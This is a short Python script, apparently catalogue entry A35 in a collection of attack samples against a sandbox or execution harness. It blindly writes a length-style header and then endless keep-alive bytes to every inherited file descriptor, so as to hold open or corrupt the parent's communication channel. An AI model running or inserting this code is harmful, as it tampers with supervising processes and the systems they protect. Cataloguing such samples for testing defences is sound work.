# attack: keeps the channel alive with one byte at a time
# catalogue: A35
# %%
import os
import threading

tick = threading.Event()
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\x40\x00\x00\x00")
    except OSError:
        pass
while True:
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b" ")
        except OSError:
            pass
    tick.wait(0.2)
